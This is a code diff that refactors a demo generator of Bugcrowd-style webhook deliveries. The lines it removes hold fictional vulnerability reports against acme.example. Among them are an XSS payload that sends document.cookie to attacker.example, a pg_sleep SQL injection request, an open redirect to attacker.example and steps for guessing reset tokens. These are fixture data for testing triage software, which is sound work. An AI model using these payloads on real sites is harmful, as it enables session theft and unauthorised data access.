@@ -1,136 +1,36 @@
-const MS_PER_DAY = 86_400_000;
+import type { Viewer } from '../bugcrowd/http/authenticate';
+import { includeRelated } from '../bugcrowd/resources/include-related';
+import { submissionResource } from '../bugcrowd/resources/submission-resource';
+import { relatedId } from '../bugcrowd/store/related-id';
+import type { StoredSubmission } from '../bugcrowd/store/stored-submission';
+import { createSubmissionStore, type SubmissionStore } from '../bugcrowd/store/submission-store';
+import { demoSubmissions } from './demo-submissions';
 
-interface DemoSubmission {
-  readonly title: string;
-  readonly priority: number;
-  readonly cvss?: number;
-  readonly state: 'triaged' | 'unresolved' | 'resolved';
-  /** Days since it was submitted, and since it was triaged. */
-  readonly submittedDaysAgo: number;
-  readonly triagedDaysAgo: number;
-  readonly vrtId: string;
-  readonly target: string;
-  readonly researcher: string;
-  readonly description: string;
-}
+const receiver: Viewer = { email: '', programs: ['acme'] };
 
-/** Of different severity and age, so that under the default policy every band is on the first page. */
-const submissions: readonly DemoSubmission[] = [
-  {
-    title: 'Stored XSS in the comment preview runs for every reader',
-    priority: 2,
-    state: 'triaged',
-    submittedDaysAgo: 4,
-    triagedDaysAgo: 3,
-    vrtId: 'cross_site_scripting_xss.stored.non_admin_to_anyone',
-    target: 'app.acme.example',
-    researcher: 'quiet_otter',
-    description:
-      '## What happens\n\nThe preview renders `<img src=x onerror=alert(document.domain)>` as markup.\n\n1. Write the comment below\n2. Open the preview as another user\n\n```html\n<img src=x onerror="fetch(\'//attacker.example/?c=\'+document.cookie)">\n```\n\n> Seen in Chromium and Firefox.\n\n| role | affected |\n| --- | --- |\n| reader | yes |\n| admin | yes |',
-  },
-  {
-    title: 'SQL injection in the report export reads any table',
-    priority: 1,
-    state: 'unresolved',
-    submittedDaysAgo: 14,
-    triagedDaysAgo: 12,
-    vrtId: 'server_side_injection.sql_injection',
-    target: 'reports.acme.example',
-    researcher: 'nullbyte_nora',
-    description:
-      'The parameter `sort` of **/export** goes into the query as it is.\n\n```http\nGET /export?sort=name;select+pg_sleep(5)-- HTTP/1.1\nHost: reports.acme.example\n```\n\nThe answer takes five seconds longer.',
-  },
-  {
-    title: 'Account takeover through a predictable password reset token',
-    priority: 3,
-    cvss: 9.1,
-    state: 'triaged',
-    submittedDaysAgo: 9,
-    triagedDaysAgo: 8.5,
-    vrtId: 'broken_authentication_and_session_management.weak_login_function',
-    target: 'login.acme.example',
-    researcher: 'tea_and_tokens',
-    description:
-      'Reset tokens are the MD5 of the time in seconds. Ten requests are enough to hit one.\n\n* ask for a reset\n* note the `Date` header\n* try the ten tokens around it',
-  },
-  {
-    title: 'Missing rate limit on the coupon endpoint',
-    priority: 4,
-    state: 'triaged',
-    submittedDaysAgo: 30,
-    triagedDaysAgo: 28,
-    vrtId: 'server_security_misconfiguration.no_rate_limiting_on_form',
-    target: 'shop.acme.example',
-    researcher: 'bruteforce_bea',
-    description: 'A thousand requests to `/coupon/check` in a minute were all answered.',
-  },
-  {
-    title: 'Open redirect after login',
-    priority: 3,
-    state: 'resolved',
-    submittedDaysAgo: 40,
-    triagedDaysAgo: 38,
-    vrtId: 'unvalidated_redirects_and_forwards.open_redirect.get_based',
-    target: 'login.acme.example',
-    researcher: 'quiet_otter',
-    description:
-      'The parameter `next` takes any address: [example](https://login.acme.example/?next=//attacker.example).',
-  },
-];
-
-function uuid(kind: number, index: number): string {
-  return `d3300000-0000-4000-8000-${String(kind).padStart(4, '0')}${String(index).padStart(8, '0')}`;
-}
-
-function toDelivery(submission: DemoSubmission, index: number, nowMs: number): string {
-  const ago = (days: number): string => new Date(nowMs - days * MS_PER_DAY).toISOString();
-  const triagedAt = ago(submission.triagedDaysAgo);
-  const id = uuid(1, index);
-  const related = (type: string, relatedId: string) => ({ data: { type, id: relatedId } });
-  const included = [
-    {
-      id,
-      type: 'submission',
-      attributes: {
-        title: submission.title,
-        description: submission.description,
-        severity: submission.priority,
-        state: submission.state,
-        duplicate: false,
-        submitted_at: ago(submission.submittedDaysAgo),
-        last_transitioned_to_triaged_at: triagedAt,
-        last_transitioned_to_resolved_at: submission.state === 'resolved' ? ago(1) : null,
-        vrt_id: submission.vrtId,
-      },
-      relationships: {
-        program: related('program', uuid(2, 0)),
-        target: related('target', uuid(3, index)),
-        researcher: related('identity', uuid(4, index)),
-        cvss_vector: submission.cvss === undefined ? { data: null } : related('cvss_vector', uuid(5, index)),
-      },
-    },
-    { id: uuid(2, 0), type: 'program', attributes: { code: 'acme', name: 'Acme' } },
-    { id: uuid(3, index), type: 'target', attributes: { name: submission.target } },
-    { id: uuid(4, index), type: 'identity', attributes: { name: submission.researcher } },
-    ...(submission.cvss === undefined
-      ? []
-      : [{ id: uuid(5, index), type: 'cvss_vector', attributes: { score: submission.cvss, version: 3 } }]),
-  ];
-  const attributes = {
-    key: 'submission.updated',
-    created_at: triagedAt,
-    data: { changes: { state: { from: 'new', to: submission.state } } },
-  };
+function toDelivery(submission: StoredSubmission, store: SubmissionStore): string {
+  const { id, attributes } = submission;
   const event = {
-    id: uuid(6, index),
+    id: relatedId('event', id),
     type: 'event',
-    attributes,
-    relationships: { resource: related('submission', id) },
+    attributes: {
+      key: 'submission.updated',
+      created_at: attributes.last_transitioned_to_triaged_at,
+      data: { changes: { state: { from: 'new', to: attributes.state } } },
+    },
+    relationships: { resource: { data: { type: 'submission', id } } },
   };
+  const paths = ['program', 'target', 'researcher', 'cvss_vector'];
+  const included = [
+    submissionResource(submission, store, receiver),
+    ...includeRelated(paths, [submission], store, receiver),
+  ];
   return JSON.stringify({ data: event, included });
 }
 
-/** Bodies of the demo deliveries, dated back from now. */
+/** Bodies of the demo deliveries: they tell of the demo submissions just what Bugcrowd has. */
 export function demoDeliveries(nowMs: number): readonly string[] {
-  return submissions.map((submission, index) => toDelivery(submission, index + 1, nowMs));
+  const store = createSubmissionStore(() => new Date(nowMs));
+  for (const submission of demoSubmissions(nowMs)) store.upsert(submission);
+  return store.all().map((submission) => toDelivery(submission, store));
 }
